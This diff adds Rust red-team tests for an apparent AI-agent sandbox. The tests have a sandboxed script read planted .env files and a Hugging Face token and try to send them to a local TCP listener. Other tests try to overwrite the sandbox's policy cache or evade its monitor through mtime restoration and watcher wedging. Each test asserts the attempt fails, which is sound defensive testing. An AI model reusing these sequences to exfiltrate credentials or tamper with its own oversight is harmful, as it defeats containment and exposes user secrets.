@@ -134,7 +134,10 @@ fn continue_race_from_a_second_thread_cannot_open_the_secret() {
 fn clone_vm_peer_cannot_rewrite_a_checked_path() {
     let f = Fixture::new("vmrace").with_attack();
     let (ok, secret) = (f.path("ok.txt"), f.secret.display().to_string());
-    let o = attack(&f, &["vfork-race", &ok, &secret, "3000"]);
+    // Kernel-decided opens read the path at once, so the benign half wins the
+    // race less often: more rounds keep it winning sometimes.
+    let rounds = if kernel_opens() { "30000" } else { "3000" };
+    let o = attack(&f, &["vfork-race", &ok, &secret, rounds]);
     assert_race_lost("CLONE_VM race", &o);
 }
 
@@ -2402,4 +2405,401 @@ fn isolated_mode_says_who_decides_opens() {
         );
         assert_eq!(err.matches("clawless: isolated mode").count(), 1, "{}", show(&o));
     }
+}
+
+// ---- isolated files: red-team round 3 (tests/runtime/redteam/isolated-files) ----
+// Each runs in every mode (the leak must not happen in any); where the kernel
+// decides opens (CLAWLESS_KERNEL_OPENS=1, isolated, root) it also checks that the
+// run really used kernel-decided opens, so the tripwires are what stopped it.
+
+/// `./attack tcp IP 443 PRE-TAINT-CHANNEL-OK` (the channel works), then
+/// `./attack isoleak HOW PATH IP 443` (open, read, send) in the sandbox. Asserts
+/// the channel worked, the read happened, and nothing read left; returns the run.
+fn leak_attempt(f: &Fixture, ip: &str, how: &str, path: &str, env: &[(&str, &str)]) -> std::process::Output {
+    let server = Tcp::new(ip, 443);
+    let script =
+        format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack isoleak {how} \"{path}\" {ip} 443");
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+    cmd.env_remove("XDG_CACHE_HOME");
+    for (k, v) in env {
+        cmd.env(k, v);
+    }
+    let o = run_with_deadline(cmd, Duration::from_secs(180));
+    let got = server.received();
+    let out = stdout(&o);
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the channel did not work: {got:?}\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("isoleak read: ")
+            && !out.contains("isoleak read: -1")
+            && !out.contains("isoleak read: 0"),
+        "the secret was not read (the attack did not run)\n{}",
+        show(&o)
+    );
+    assert!(
+        !got.contains("LEAK:"),
+        "the secret left the sandbox: {got:?}\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("socket: errno=") || out.contains("isoleak connect: errno="),
+        "not tainted\n{}",
+        show(&o)
+    );
+    o
+}
+
+fn kernel_decided(o: &std::process::Output) {
+    if kernel_opens() {
+        assert!(stderr(o).contains("the kernel decides opens"), "{}", show(o));
+    }
+}
+
+/// Unmounts on drop.
+struct Mounted(std::ffi::CString);
+
+impl Mounted {
+    fn tmpfs(at: &std::path::Path) -> Mounted {
+        use std::os::unix::ffi::OsStrExt;
+        std::fs::create_dir_all(at).unwrap();
+        let c = std::ffi::CString::new(at.as_os_str().as_bytes()).unwrap();
+        // SAFETY: valid C strings.
+        let r = unsafe {
+            libc::mount(
+                c"none".as_ptr(),
+                c.as_ptr(),
+                c"tmpfs".as_ptr(),
+                0,
+                std::ptr::null(),
+            )
+        };
+        assert_eq!(
+            r,
+            0,
+            "mounting a tmpfs at {}: {}",
+            at.display(),
+            std::io::Error::last_os_error()
+        );
+        Mounted(c)
+    }
+}
+
+impl Drop for Mounted {
+    fn drop(&mut self) {
+        // SAFETY: valid C string.
+        unsafe { libc::umount2(self.0.as_ptr(), libc::MNT_DETACH) };
+    }
+}
+
+/// submount-never-walked: a secret on another file system mounted below the
+/// workspace is a tripwire (discovery crosses mounts).
+#[test]
+fn isolated_files_a_secret_on_a_submount_taints() {
+    let f = Fixture::new("iso-submount").with_attack();
+    let _m = Mounted::tmpfs(&f.ws.join("vol"));
+    std::fs::write(f.ws.join("vol/.env"), "SECRET5-submount-77\n").unwrap();
+    let o = leak_attempt(&f, "127.77.16.1", "plain", "vol/.env", &[]);
+    kernel_decided(&o);
+}
+
+/// nonutf8-dir-never-walked: a secret below a directory whose name is not UTF-8.
+#[test]
+fn isolated_files_a_secret_below_a_non_utf8_directory_taints() {
+    use std::os::unix::ffi::OsStrExt;
+    let f = Fixture::new("iso-nonutf8").with_attack();
+    let d = f.ws.join(std::ffi::OsStr::from_bytes(b"\xffdir"));
+    std::fs::create_dir(&d).unwrap();
+    std::fs::write(d.join(".env"), "SECRET-A-nonutf8-55\n").unwrap();
+    let server = Tcp::new("127.77.16.2", 443);
+    let script = "./attack tcp 127.77.16.2 443 PRE-TAINT-CHANNEL-OK; d=$(printf '\\377dir'); ./attack isoleak plain \"$d/.env\" 127.77.16.2 443";
+    let o = f.run(&[], &["/bin/sh", "-c", script]);
+    let got = server.received();
+    assert!(got.starts_with("PRE-TAINT-CHANNEL-OK"), "{}", show(&o));
+    assert!(
+        stdout(&o).contains("isoleak read: 20"),
+        "the secret was not read\n{}",
+        show(&o)
+    );
+    assert!(!got.contains("LEAK:"), "the secret left: {got:?}\n{}", show(&o));
+    kernel_decided(&o);
+}
+
+/// monitor-open-skips-tripwire: an open the monitor performs for the agent
+/// (`O_CREAT`, `openat2`) of a hard link to a tripwire fires it (looked up by
+/// inode). Mediated mode knows a secret's other names only from its listing of
+/// literal directories (runtime/src/aliases.rs), so this is isolated files' claim.
+#[test]
+fn isolated_files_monitor_opens_of_a_hard_link_to_a_secret_taint() {
+    if !kernel_opens() {
+        eprintln!(
+            "not run: a tripwire's other names are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)"
+        );
+        return;
+    }
+    for (i, how) in ["creat", "openat2", "plain"].iter().enumerate() {
+        let f = Fixture::new(&format!("iso-hardlink-{how}")).with_attack();
+        std::fs::write(f.ws.join(".env"), "SECRET-ENV-7f3a9c\n").unwrap();
+        std::fs::hard_link(f.ws.join(".env"), f.ws.join("notes.txt")).unwrap();
+        let o = leak_attempt(&f, &format!("127.77.16.{}", 10 + i), how, "notes.txt", &[]);
+        kernel_decided(&o);
+    }
+}
+
+/// watcher-fifo-wedge: exchanging a watched directory with a FIFO many times does
+/// not wedge the watcher; a secret created outside afterwards is still marked.
+#[test]
+fn isolated_files_the_watcher_survives_a_fifo_exchanged_for_a_directory() {
+    let ip = "127.77.16.20";
+    let server = Tcp::new(ip, 443);
+    let f = Fixture::new("iso-fifo-wedge").with_attack();
+    let script = format!(
+        "mkdir d && mkfifo f && ./attack fifoswap d f 20000; ./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain .env.local {ip} 443"
+    );
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let pid = child.id();
+    let start = std::time::Instant::now();
+    let mut got = String::new();
+    while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
+        got.push_str(&server.received());
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the sandbox did not get to its send: {got:?}"
+    );
+    std::fs::write(f.ws.join(".env.local"), "USER-SECRET-B-created-outside-99\n").unwrap();
+    if kernel_opens() {
+        use std::os::unix::fs::MetadataExt;
+        let ino = format!(
+            "ino:{:x} ",
+            std::fs::metadata(f.ws.join(".env.local")).unwrap().ino()
+        );
+        let armed = || {
+            std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
+                .into_iter()
+                .flatten()
+                .flatten()
+                .any(|e| {
+                    std::fs::read_to_string(e.path())
+                        .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
+                })
+        };
+        let made = std::time::Instant::now();
+        while !armed() && made.elapsed() < Duration::from_secs(30) {
+            std::thread::sleep(Duration::from_millis(1));
+        }
+        eprintln!(
+            "the new secret was marked {:?} after its creation",
+            made.elapsed()
+        );
+        let threads: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/task"))
+            .into_iter()
+            .flatten()
+            .flatten()
+            .map(|t| {
+                let r = |f: &str| std::fs::read_to_string(t.path().join(f)).unwrap_or_default();
+                let utime = r("stat").split(' ').nth(13).unwrap_or("").to_string();
+                format!("{} {} {utime}", r("comm").trim(), r("wchan"))
+            })
+            .collect();
+        assert!(
+            armed(),
+            "the watcher did not mark the new secret within 30 s (wedged?): {threads:?}"
+        );
+    }
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let out = stdout(&o);
+    assert!(out.contains("fifoswap: 20000 of 20000 exchanges"), "{}", show(&o));
+    assert!(
+        out.contains("isoleak read: 33"),
+        "the read did not happen\n{}",
+        show(&o)
+    );
+    assert!(
+        !server.received().contains("LEAK:"),
+        "the secret left\n{}",
+        show(&o)
+    );
+    assert!(out.contains("socket: errno="), "not tainted\n{}", show(&o));
+    kernel_decided(&o);
+}
+
+/// walk-bound-cache-poison: discovery that reaches its entry bound keeps opens
+/// mediated for that run (and says so), and caches nothing of the cut-short walk:
+/// the next run (no lowered bound) still makes the secret a tripwire.
+#[test]
+fn isolated_files_discovery_past_its_bound_falls_back_and_is_not_cached() {
+    let f = Fixture::new("iso-walk-bound").with_attack();
+    std::fs::create_dir(f.ws.join("sub")).unwrap();
+    for i in 0..200 {
+        std::fs::write(f.ws.join(format!("junk{i}")), "").unwrap();
+    }
+    std::fs::write(f.ws.join("sub/.env"), "SECRET6-walkbound-42\n").unwrap();
+    let o = leak_attempt(
+        &f,
+        "127.77.16.30",
+        "plain",
+        "sub/.env",
+        &[("CLAWLESS_DISCOVERY_BOUND", "50")],
+    );
+    if kernel_opens() {
+        assert!(
+            stderr(&o).contains("opens are mediated: discovery reached its bound of 50 entries"),
+            "{}",
+            show(&o)
+        );
+    }
+    let o = leak_attempt(&f, "127.77.16.31", "plain", "sub/.env", &[]);
+    kernel_decided(&o);
+}
+
+/// cache-mtime-poison: the discovery cache is not fooled by a directory whose
+/// mtime was restored with `utimensat` after a secret was moved into it.
+#[test]
+fn isolated_files_a_restored_mtime_does_not_hide_a_moved_secret() {
+    let f = Fixture::new("iso-mtime").with_attack();
+    std::fs::create_dir(f.ws.join("d")).unwrap();
+    std::fs::write(f.ws.join(".env"), "SECRET-ENV2-c0ffee\n").unwrap();
+    // Older than the cache's distrust of fresh timestamps.
+    std::thread::sleep(Duration::from_millis(2100));
+    let o = f.run(&[], &["/bin/true"]);
+    assert_eq!(code(&o), 0, "{}", show(&o));
+    kernel_decided(&o);
+    // Move the secret and put both directories' times back.
+    let times = |p: &std::path::Path| {
+        use std::os::unix::fs::MetadataExt;
+        let m = std::fs::metadata(p).unwrap();
+        [
+            libc::timespec {
+                tv_sec: m.atime(),
+                tv_nsec: m.atime_nsec(),
+            },
+            libc::timespec {
+                tv_sec: m.mtime(),
+                tv_nsec: m.mtime_nsec(),
+            },
+        ]
+    };
+    let (ws_t, d_t) = (times(&f.ws), times(&f.ws.join("d")));
+    std::fs::rename(f.ws.join(".env"), f.ws.join("d/.env")).unwrap();
+    for (p, t) in [(&f.ws, ws_t), (&f.ws.join("d"), d_t)] {
+        use std::os::unix::ffi::OsStrExt;
+        let c = std::ffi::CString::new(p.as_os_str().as_bytes()).unwrap();
+        // SAFETY: `c` is a NUL-terminated path and `t` an array of the two
+        // timespecs utimensat reads; both outlive the call.
+        let r = unsafe { libc::utimensat(libc::AT_FDCWD, c.as_ptr(), t.as_ptr(), 0) };
+        assert_eq!(r, 0);
+    }
+    assert_eq!(times(&f.ws)[1].tv_nsec, ws_t[1].tv_nsec, "the mtime was restored");
+    let o = leak_attempt(&f, "127.77.16.40", "plain", "d/.env", &[]);
+    kernel_decided(&o);
+}
+
+/// credential-in-readable-cache: Hugging Face's token in the readable cache is a
+/// secret (every mode).
+#[test]
+fn isolated_files_a_hugging_face_token_in_the_cache_taints() {
+    let f = Fixture::new("iso-hf-token").with_attack();
+    std::fs::create_dir_all(f.home.join(".cache/huggingface")).unwrap();
+    std::fs::write(f.home.join(".cache/huggingface/token"), "hf_REDTEAM_token_1234\n").unwrap();
+    let path = f.home.join(".cache/huggingface/token").display().to_string();
+    let o = leak_attempt(&f, "127.77.16.50", "plain", &path, &[]);
+    kernel_decided(&o);
+}
+
+/// default-profile-never-isolated: the default profile runs with kernel-decided
+/// opens although it carves its policy cache out of the writable caches, and the
+/// carve holds: the agent cannot write the policy cache (by a creation, which the
+/// monitor decides, or by a plain open for writing, which Landlock decides), while
+/// a sibling cache stays writable both ways.
+#[test]
+fn isolated_files_the_policy_cache_stays_unwritable() {
+    let f = Fixture::new("iso-policy-cache").with_attack();
+    let cache = f.home.join(".cache");
+    std::fs::create_dir_all(cache.join("clawless")).unwrap();
+    std::fs::create_dir_all(cache.join("pip")).unwrap();
+    std::fs::write(cache.join("clawless/policy.bin"), "ORIGINAL").unwrap();
+    std::fs::write(cache.join("pip/entry"), "ORIGINAL").unwrap();
+    let script = "c=$HOME/.cache; \
+        echo x > $c/clawless/evil; echo \"creat: $?\"; \
+        printf EVIL | dd of=$c/clawless/policy.bin conv=nocreat,notrunc 2>/dev/null; echo \"plain write: $?\"; \
+        echo y > $c/pip/new; echo \"sibling creat: $?\"; \
+        printf GOOD | dd of=$c/pip/entry conv=nocreat,notrunc 2>/dev/null; echo \"sibling plain write: $?\"";
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
+    cmd.env_remove("XDG_CACHE_HOME");
+    let o = run_with_deadline(cmd, Duration::from_secs(120));
+    let out = stdout(&o);
+    assert!(
+        out.contains("sibling plain write: 0"),
+        "the probe did not run\n{}",
+        show(&o)
+    );
+    let line = |l: &str| out.lines().any(|x| x == l);
+    assert!(!line("creat: 0") && !line("plain write: 0"), "{}", show(&o));
+    assert!(out.contains("sibling creat: 0"), "{}", show(&o));
+    assert!(
+        !cache.join("clawless/evil").exists(),
+        "the policy cache was written\n{}",
+        show(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(cache.join("clawless/policy.bin")).unwrap(),
+        "ORIGINAL",
+        "{}",
+        show(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(cache.join("pip/entry")).unwrap(),
+        "GOODINAL",
+        "{}",
+        show(&o)
+    );
+    kernel_decided(&o);
+}
+
+/// host-opens-block-on-monitor: a process outside the sandbox that opens a file
+/// the sandbox's tripwires marked is answered at once (ahead of the sandbox's own
+/// opens, which the monitor decides) while the agent floods that tripwire. (A
+/// *stopped* `clawless` still stalls such opens: docs/threat-model.md.)
+#[test]
+fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_floods_it() {
+    if !kernel_opens() {
+        eprintln!("not run: tripwires are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
+        return;
+    }
+    let f = Fixture::new("iso-host-opens").with_attack();
+    std::fs::write(f.ws.join(".env"), "A=1\n").unwrap();
+    let script = "cat .env >/dev/null && touch flooding; \
+        for i in 1 2 3; do (n=0; while [ $n -lt 400 ]; do cat .env .env .env .env >/dev/null; n=$((n+1)); done) & done; wait; echo flooded";
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let start = std::time::Instant::now();
+    while !f.ws.join("flooding").exists() && start.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    assert!(f.ws.join("flooding").exists(), "the agent did not start flooding");
+    let mut worst = Duration::ZERO;
+    for _ in 0..200 {
+        let t = std::time::Instant::now();
+        let text = std::fs::read_to_string(f.ws.join(".env")).unwrap();
+        worst = worst.max(t.elapsed());
+        assert_eq!(text, "A=1\n");
+    }
+    let o = wait_with_deadline(child, Duration::from_secs(180));
+    assert!(stdout(&o).contains("flooded"), "{}", show(&o));
+    kernel_decided(&o);
+    eprintln!("worst outside open of the tripwire during the flood: {worst:?}");
+    assert!(
+        worst < Duration::from_millis(500),
+        "an outside open waited {worst:?}"
+    );
 }
